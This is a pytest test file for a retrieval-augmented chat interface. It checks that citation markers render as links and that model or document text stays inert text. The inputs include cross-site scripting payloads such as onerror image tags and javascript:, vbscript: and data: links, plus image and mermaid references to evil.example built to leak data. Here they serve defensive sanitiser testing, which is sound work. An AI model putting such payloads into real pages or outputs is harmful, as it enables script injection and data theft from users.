"""Answers on the page: markers become links, and text of documents and models stays text."""

from __future__ import annotations

import re
from dataclasses import replace
from html import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.schema import Answer, Citation, CitationState, Passage, Timings
from ui.history.exchange import Exchange
from ui.web.chat.markdown import literal_markdown, safe_markdown
from ui.web.chat.render import problem_markdown, question_markdown, reply_markdown, status_line

ZH = Passage(
    1, "a-1", "a", "高质量发展核心竞争力", "产业创新集群", 3, 0, 30, "苏州的产值为3.8万亿元。目标是5万亿元。", 0.9, "zh")
EN = Passage(
    2, "b-1", "b", "Lighthouse factories", "", 0, 0, 30, "Suzhou has 7 lighthouse factories.\n\nThey lead.", 0.8, "en")
SPARE = replace(EN, number=3, id="c-1", title="Another <note>")
ATTACK = '<img src=x onerror="alert(1)">'


def cite(passage: Passage, quote: str, state: CitationState = "verified quote") -> Citation:
    return Citation(
        passage.number, quote, passage.id, passage.source_id, passage.title, passage.section, passage.page, quote,
        state)


def exchange(text: str, *citations: Citation, passages: tuple[Passage, ...] = (ZH, EN, SPARE)) -> Exchange:
    return Exchange(Answer("产值？", "zh", "grounded", text, citations, passages, "extractive", Timings(1, 2, 1234.5)))


# --- Markdown


def test_a_marker_becomes_a_link_that_names_turn_and_number() -> None:
    assert safe_markdown("产值为3.8万亿元[1]。", 4, {1}) == r"产值为3.8万亿元[\[1\]](#cite-4-1)。"


def test_adjacent_markers_are_two_links() -> None:
    assert safe_markdown("So it is.[1][2]", 1, {1, 2}) == r"So it is.[\[1\]](#cite-1-1)[\[2\]](#cite-1-2)"


def test_a_marker_without_a_passage_stays_text() -> None:
    assert safe_markdown("见[9]和[1]", 1, {1}) == r"见[9]和[\[1\]](#cite-1-1)"


@pytest.mark.parametrize("code", ["`a[1]`", "``a`[1]``", "```\na[1]\n```", "~~~\na[1]\n~~~", "```\na[1]"])
def test_markers_in_code_are_not_citations(code: str) -> None:
    shown = safe_markdown(f"看\n\n{code}", 1, {1})
    assert "#cite-" not in shown
    assert "a&#91;1&#93;</code>" in shown or "a&#96;&#91;1&#93;</code>" in shown


def test_a_marker_after_an_exclamation_mark_is_a_link_and_not_an_image() -> None:
    assert safe_markdown("Great![1]", 1, {1}) == r"Great&#33;[\[1\]](#cite-1-1)"


def test_a_marker_before_a_colon_is_a_citation_and_not_a_definition() -> None:
    assert safe_markdown("[1]: 3.8万亿元", 1, {1}) == r"[\[1\]](#cite-1-1): 3.8万亿元"
    assert safe_markdown("[9]: https://evil.example", 1, {1}).startswith("&#91;9]")


def test_html_is_shown_as_text() -> None:
    assert safe_markdown("<img src=x onerror=alert(1)> A&B") == "&lt;img src=x onerror=alert(1)> A&amp;B"


def test_an_image_becomes_text() -> None:
    shown = safe_markdown("![pixel](https://evil.example/?q=秘密)")
    assert "](" not in shown
    assert "![" not in shown
    assert unescape(shown) == "![pixel](https://evil.example/?q=秘密)"


@pytest.mark.parametrize("target", [
    "javascript:alert(1)", " data:text/html,x", "#cite-1-1", "/gradio_api/file=x", "//evil.example", "vbscript:x"])
def test_a_link_works_only_if_a_passage_contains_its_target(target: str) -> None:
    assert unescape(safe_markdown(f"[点击]({target})")) == f"[点击]({target})"
    assert "](" not in safe_markdown(f"[点击]({target})", evidence=[f"见 {target}"])
    assert unescape(safe_markdown("[来源](https://example.org)")) == "来源 (https://example.org)"
    linked = safe_markdown("[来源](https://example.org)", evidence=["见 https://example.org 。"])
    assert "](https://example.org)" in unescape(linked)


def test_the_language_of_a_code_block_is_removed_because_mermaid_would_load_files() -> None:
    shown = safe_markdown("```mermaid\nA@{ img: 'https://evil.example' }\n```")
    assert "mermaid" not in shown
    assert unescape(shown) == "<pre><code>A@{ img: 'https://evil.example' }</code></pre>"
    assert "mermaid" not in safe_markdown("> - ~~~ mermaid\n>   x")
    assert unescape(safe_markdown("```x``` 与 ```y```")) == "<code>x</code> 与 <code>y</code>"


# a browser may disagree with this module on what is code; a tag must be text in any case
@pytest.mark.parametrize("text", [
    r"\`<img src=x>\`", "- `a\n- <img src=x>`", "| `a | <img src=x> ` |\n|---|---|", "`a\n\n<img src=x>`",
    "```\n<img src=x>\n```", "- x\n\n  ```\n<img src=x>\n  ```", '[a]: x "\n```\n" <img src=x>',
    "`![x](https://evil.example)`",
])
def test_a_tag_or_image_at_any_place_is_made_harmless(text: str) -> None:
    assert_harmless(safe_markdown(text, 1, {1}))


@given(st.text(alphabet="`~<>![]()1a/ \n\\&-*|:\"h#", max_size=60))
def test_no_text_opens_a_tag_or_an_image(text: str) -> None:
    assert_harmless(safe_markdown(text, 1, {1}))
    assert_harmless(literal_markdown(text))


def assert_harmless(markdown: str) -> None:
    assert not re.search(r"<(?!/?(?:code|pre)>)[A-Za-z/!?]", markdown)  # except code and pre, which contain only text
    assert "![" not in markdown


def test_a_question_is_shown_exactly_as_typed() -> None:
    assert literal_markdown("*甲* <b> [x](y)") == r"\*甲\* &lt;b&gt; \[x\]\(y\)"
    assert r"\# 标题" in question_markdown(Exchange(Answer("# 标题", "zh")), 1)


def test_a_reply_is_empty_before_its_first_word() -> None:
    assert reply_markdown(exchange(""), 1) == ""
    assert r"[\[2\]](#cite-3-2)" in reply_markdown(exchange("Seven.[2]"), 3)


# --- the line under an answer


def test_status_names_verdict_model_and_time_in_words() -> None:
    line = status_line(exchange("甲[1]", cite(ZH, "目标")), 2)
    assert "✓" in line
    assert "句句有出处" in line
    assert "Every statement is sourced" in line
    assert 'href="#evidence-2"' in line
    assert "extractive" in line
    assert "1,234 毫秒" in line


def test_status_of_a_stopped_answer_claims_nothing() -> None:
    composing = Exchange(Answer("?", "en", text="Half"), stopped=True)
    assert "Stopped" in status_line(composing, 1)
    assert "sourced" not in status_line(composing, 1)
    assert composing.in_progress is False


def test_a_problem_is_one_sentence_with_a_label_before_it() -> None:
    failed = Exchange(Answer("?", "en", status="failed"), problem="no <endpoint> at *x*")
    assert "没能作答：" in problem_markdown(failed)
    assert r"no &lt;endpoint&gt; at \*x\*" in problem_markdown(failed)
    assert problem_markdown(exchange("甲")) == ""


def test_a_model_cannot_put_html_into_the_status() -> None:
    assert "<img" not in status_line(Exchange(Answer("?", "en", "partial", model="<img src=x>")), 1)


def test_a_model_cannot_put_html_into_its_answer() -> None:
    assert "<img" not in reply_markdown(Exchange(Answer(ATTACK, "zh", "grounded", ATTACK, (), (ZH,), ATTACK)), 1)
